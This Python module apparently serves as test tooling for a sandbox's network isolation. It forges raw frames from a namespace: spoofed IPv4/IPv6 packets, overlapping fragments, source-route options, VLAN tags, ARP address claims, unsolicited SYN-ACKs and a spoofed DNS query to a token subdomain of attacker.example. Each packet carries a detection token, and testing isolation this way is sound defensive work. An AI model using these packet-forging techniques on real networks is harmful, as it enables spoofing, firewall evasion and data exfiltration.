"""Frames made by hand in a session's network namespace: the stronger attacker, who has left the sandbox but not its network.

All packets carry the token, so a sniffer finds them whatever they claim to be.
"""

from __future__ import annotations

import contextlib
import fcntl
import ipaddress
import socket
import struct
import time

from . import wire

IP_OPTIONS = {
    "": b"",
    "record route": b"\x07\x07\x04\0\0\0\0\1",
    "timestamp": b"\x44\x08\x05\0\0\0\0\0",
    "router alert": b"\x94\x04\0\0",
    "security": b"\x82\x0b" + bytes(9) + b"\0",
    "unknown": b"\x9e\x04\0\0",
}
FLAGS = {"F": 1, "S": 2, "R": 4, "P": 8, "A": 16, "U": 32, "E": 64, "C": 128}


def checksum(data: bytes) -> int:
    """RFC 1071."""
    data += b"\0" * (len(data) % 2)
    total = sum(struct.unpack(f">{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def crc32c(data: bytes) -> int:
    """RFC 3309, for SCTP."""
    crc = 0xFFFFFFFF
    for byte in data:
        crc ^= byte
        for _ in range(8):
            crc = crc >> 1 ^ (0x82F63B78 if crc & 1 else 0)
    return crc ^ 0xFFFFFFFF


class Frames:
    """The methods of the table that need a network namespace. `job` tells the session's and the gateway's addresses."""

    def __init__(self, gateway: str, token: str, job: dict[str, object]) -> None:
        self.gateway, self.mark = gateway, token.encode()
        self.me, self.me6 = str(job["address"]), str(job["address6"])
        self.gateway_mac = bytes.fromhex(str(job["gateway_mac"]).replace(":", ""))
        self.sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)
        self.sock.bind(("eth0", 0))
        self.mac = fcntl.ioctl(self.sock, 0x8927, struct.pack("256s", b"eth0"))[18:24]  # SIOCGIFHWADDR

    def _send(self, kind: int, payload: bytes, to: bytes | None = None, vlan: tuple[int, ...] = ()) -> None:
        head = (to or self.gateway_mac) + self.mac
        for tag in vlan:
            head += struct.pack(">HH", 0x8100, tag)
        frame = (head + kind.to_bytes(2, "big") + payload).ljust(60, b"\0")
        for _ in range(2):
            self.sock.send(frame)
            time.sleep(0.05)

    def _transport(self, protocol: int, source: str, target: str, sport: int, dport: int, flags: str, icmp: tuple[int, int], inner: bytes) -> bytes:
        """Header and payload of the transport, with a checksum that connection tracking takes for good."""
        a, b = ipaddress.ip_address(source).packed, ipaddress.ip_address(target).packed
        if protocol == 6:
            bits = sum(FLAGS[f] for f in flags)
            body = struct.pack(">HHIIBBHHH", sport, dport, 1000, 2000 if "A" in flags else 0, 5 << 4, bits, 65535, 0, 0) + self.mark
            place = 16
        elif protocol in (17, 136):
            body, place = struct.pack(">HHHH", sport, dport, 8 + len(self.mark), 0) + self.mark, 6
        elif protocol in (1, 58):
            body, place = struct.pack(">BBHHH", *icmp, 0, 7, 1) + inner + self.mark + bytes(20), 2
        elif protocol == 132:
            chunk = struct.pack(">BBHIIHHI", 1, 0, 20 + 4 + 16, 7, 65535, 1, 1, 9) + struct.pack(">HH", 0x8001, 20) + self.mark.ljust(16, b"\0")
            head = struct.pack(">HHI", sport, dport, 0)
            return head + struct.pack("<I", crc32c(head + bytes(4) + chunk)) + chunk
        elif protocol == 33:
            # DCCP-Request, RFC 4340: six words of header, a service code, then data.
            body = struct.pack(">HHBBHBBHIII", sport, dport, 6, 0, 0, 1, 0, 0, 1, 0, 7)[:24] + self.mark
            place = 6
        else:
            return bytes(8) + self.mark + bytes(24)
        pseudo = a + b + struct.pack(">HH", protocol, len(body)) if len(a) == 4 else a + b + struct.pack(">II", len(body), protocol)
        value = checksum(body if protocol == 1 else pseudo + body)
        return body[:place] + value.to_bytes(2, "big") + body[place + 2 :]

    def _ip4(self, source: str, target: str, protocol: int, payload: bytes, options: bytes = b"", number: int = 7, offset: int = 0, ttl: int = 64) -> bytes:
        head = struct.pack(
            ">BBHHHBBH4s4s", 0x45 + len(options) // 4, 0, 20 + len(options) + len(payload), number, offset, ttl, protocol, 0,
            socket.inet_aton(source), socket.inet_aton(target),
        ) + options  # fmt: skip
        return head[:10] + checksum(head).to_bytes(2, "big") + head[12:] + payload

    def ip4(
        self, to: str, *, protocol: int = 17, dport: int = 443, sport: int = 40001, flags: str = "S", icmp: tuple[int, int] = (8, 0), source: str = "",
        options: str = "", pieces: str = "", ttl: int = 64, vlan: tuple[int, ...] = (), wrap: str = "", to_mac: str = "",
    ) -> str:  # fmt: skip
        """One IPv4 packet. `pieces`: "small" fragments of 8 bytes, "overlap", "late header". `wrap`: an outer packet to there."""
        source = source or self.me
        payload = self._transport(protocol, source, to, sport, dport, flags, tuple(icmp), b"")  # type: ignore[arg-type]
        mac = bytes.fromhex(to_mac.replace(":", "")) if to_mac else None
        if pieces:
            # The token lies in one piece, so that the sniffer finds it.
            cut = max(8, (payload.find(self.mark) // 8) * 8)
            first, rest = (payload[:cut], 0x2000), (payload[cut:], cut // 8)
            order = {"small": [first, rest], "late header": [rest, first], "overlap": [(payload[:cut] + bytes(8), 0x2000), rest]}[pieces]
            for part, offset in order:
                self._send(0x0800, self._ip4(source, to, protocol, part, number=int(self.mark[-4:], 16), offset=offset), mac)
            return ""
        packet = self._ip4(source, to, protocol, payload, IP_OPTIONS.get(options, b""), ttl=ttl)
        if options in ("loose route", "strict route"):
            number = 131 if options == "loose route" else 137
            packet = self._ip4(source, self.gateway, protocol, payload, bytes([number, 7, 4]) + socket.inet_aton(to) + b"\0")
        if wrap:
            packet = self._ip4(source, wrap, 4, packet)
        self._send(0x0800, packet, mac, tuple(vlan))
        return ""

    def related(self, to: str, flow: str, kind: int = 3) -> str:
        """An ICMP error about a permitted flow, but sent elsewhere: "related" must not mean permitted."""
        host, _, port = flow.partition(":")
        self._send(0x0800, self._ip4(self.me, host, 17, self._transport(17, self.me, host, 40002, int(port), "", (0, 0), b"")))
        time.sleep(0.2)
        quoted = self._ip4(host, self.me, 17, struct.pack(">HHHH", int(port), 40002, 8 + 15, 0))
        payload = self._transport(1, self.me, to, 0, 0, "", (kind, 1 if kind == 3 else 0), quoted)
        self._send(0x0800, self._ip4(self.me, to, 1, payload[:4] + bytes(4) + payload[8:]))
        self._send(0x0800, self._ip4(self.me, to, 1, payload))
        return ""

    def ip6(
        self, to: str, *, protocol: int = 17, dport: int = 443, source: str = "", icmp: tuple[int, int] = (128, 0), before: str = "",
        to_mac: str = "", flags: str = "S",
    ) -> str:  # fmt: skip
        """One IPv6 packet, `before` an extension header."""
        source = source or self.me6
        payload = self._transport(protocol, source, to, 40003, dport, flags, tuple(icmp), b"")  # type: ignore[arg-type]
        number = {"": protocol, "hop-by-hop": 0, "destination": 60, "routing": 43, "fragment": 44}[before]
        if before == "fragment":
            payload = struct.pack(">BBHI", protocol, 0, 0, 7) + payload
        elif before:
            payload = struct.pack(">BB", protocol, 0) + (b"\0\0\0\0\0\0" if before == "routing" else b"\1\4\0\0\0\0") + payload
        head = struct.pack(">IHBB", 6 << 28, len(payload), number, 64) + ipaddress.ip_address(source).packed + ipaddress.ip_address(to).packed
        mac = bytes.fromhex(to_mac.replace(":", "")) if to_mac else None
        self._send(0x86DD, head + payload, mac)
        return ""

    def arp(self, claim: str, target: str = "", operation: int = 2, to_mac: str = "ff:ff:ff:ff:ff:ff", hardware: str = "") -> str:
        """Claim an address, or ask for one; the token is in the padding."""
        sender = bytes.fromhex(hardware.replace(":", "")) if hardware else self.mac
        body = struct.pack(">HHBBH", 1, 0x0800, 6, 4, operation) + sender + socket.inet_aton(claim) + bytes(6) + socket.inet_aton(target or claim)
        self._send(0x0806, body + self.mark, bytes.fromhex(to_mac.replace(":", "")))
        return ""

    def ether(self, kind: int, to_mac: str, vlan: tuple[int, ...] = ()) -> str:
        """A frame of any protocol with the token in it."""
        self._send(kind, self.mark + bytes(40), bytes.fromhex(to_mac.replace(":", "")), tuple(vlan))
        return ""

    def dhcp(self) -> str:
        """Ask whoever hears it for an address, with the token as the host name."""
        options = b"\x63\x82\x53\x63\x35\1\1\x0c" + bytes([len(self.mark)]) + self.mark + b"\xff"
        body = b"\1\1\6\0" + bytes(8) + bytes(16) + self.mac + bytes(10) + bytes(192) + options
        packet = struct.pack(">HHHH", 68, 67, 8 + len(body), 0) + body
        self._send(0x0800, self._ip4("0.0.0.0", "255.255.255.255", 17, packet), b"\xff" * 6)
        return ""

    def answer(self, to: str, sport: int, dport: int = 40004) -> str:
        """A TCP segment that claims to belong to a connection which the other side opened."""
        payload = self._transport(6, self.me, to, sport, dport, "SA", (0, 0), b"")
        self._send(0x0800, self._ip4(self.me, to, 6, payload))
        return ""

    def dns4(self, to: str, source: str = "") -> str:
        """A DNS query with another sender: whoever trusts the source address answers somebody else, but has the question."""
        source = source or self.me
        message = wire.query(self.mark.decode() + ".t.attacker.example", "TXT")
        body = struct.pack(">HHHH", 40005, 53, 8 + len(message), 0) + message
        pseudo = socket.inet_aton(source) + socket.inet_aton(to) + struct.pack(">HH", 17, len(body))
        body = body[:6] + checksum(pseudo + body).to_bytes(2, "big") + body[8:]
        with contextlib.suppress(OSError):
            self._send(0x0800, self._ip4(source, to, 17, body))
        return ""
